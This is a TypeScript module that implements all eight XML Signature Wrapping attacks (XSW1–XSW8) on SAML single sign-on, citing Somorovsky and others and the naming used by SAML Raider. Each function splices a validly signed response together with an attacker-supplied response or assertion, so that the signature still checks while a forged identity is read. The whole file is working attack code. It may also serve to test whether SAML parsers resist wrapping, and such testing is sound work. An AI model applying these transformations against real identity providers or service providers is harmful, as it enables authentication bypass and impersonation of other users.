/** An answer that is signed rightly, and what an attacker wants to be read instead. */
interface Wrapping {
  /** A whole response whose assertion, or which itself, is signed. */
  readonly signed: string;
  /** The same with somebody else in it, under other ids, unsigned. */
  readonly evilResponse: string;
  readonly evilAssertion: string;
}

const only = (xml: string, pattern: RegExp): string => pattern.exec(xml)?.[0] as string;
const signaturePattern = /<(?:ds:)?Signature[\s\S]*?<\/(?:ds:)?Signature>/;
const assertionPattern = /<saml:Assertion[\s\S]*<\/saml:Assertion>/;
const into = (signature: string, inside: string): string =>
  signature.replace(/<\/((?:ds:)?)Signature>$/, `<$1Object>${inside}</$1Object></$1Signature>`);

/** The eight ways of XML signature wrapping (Somorovsky and others, 2012; the names are those of SAML Raider). */
export const wrappings: Readonly<Record<string, { readonly signs: 'Response' | 'Assertion'; readonly wrap: (given: Wrapping) => string }>> =
  {
    XSW1: {
      signs: 'Response',
      wrap: ({ signed, evilResponse }) => {
        const signature = only(signed, signaturePattern);
        return evilResponse.replace('<samlp:Status>', `${into(signature, signed.replace(signature, ''))}<samlp:Status>`);
      },
    },
    XSW2: {
      signs: 'Response',
      wrap: ({ signed, evilResponse }) => {
        const signature = only(signed, signaturePattern);
        return evilResponse.replace('<samlp:Status>', `${signed.replace(signature, '')}${signature}<samlp:Status>`);
      },
    },
    XSW3: { signs: 'Assertion', wrap: ({ signed, evilAssertion }) => signed.replace('<saml:Assertion', `${evilAssertion}<saml:Assertion`) },
    XSW4: {
      signs: 'Assertion',
      wrap: ({ signed, evilAssertion }) => {
        const original = only(signed, assertionPattern);
        return signed.replace(original, evilAssertion.replace('</saml:Assertion>', `${original}</saml:Assertion>`));
      },
    },
    XSW5: {
      signs: 'Assertion',
      wrap: ({ signed, evilAssertion }) => {
        const original = only(signed, assertionPattern);
        const signature = only(original, signaturePattern);
        return signed.replace(
          original,
          evilAssertion.replace('<saml:Subject>', `${signature}<saml:Subject>`) + original.replace(signature, ''),
        );
      },
    },
    XSW6: {
      signs: 'Assertion',
      wrap: ({ signed, evilAssertion }) => {
        const original = only(signed, assertionPattern);
        const signature = only(original, signaturePattern);
        const holding = into(signature, original.replace(signature, ''));
        return signed.replace(original, evilAssertion.replace('<saml:Subject>', `${holding}<saml:Subject>`));
      },
    },
    XSW7: {
      signs: 'Assertion',
      wrap: ({ signed, evilAssertion }) =>
        signed.replace('<saml:Assertion', `<samlp:Extensions>${evilAssertion}</samlp:Extensions><saml:Assertion`),
    },
    XSW8: {
      signs: 'Assertion',
      wrap: ({ signed, evilAssertion }) => {
        const original = only(signed, assertionPattern);
        const signature = only(original, signaturePattern);
        const bare = original.replace(signature, '');
        return signed.replace(original, evilAssertion.replace('<saml:Subject>', `${into(signature, bare)}<saml:Subject>`));
      },
    },
  };
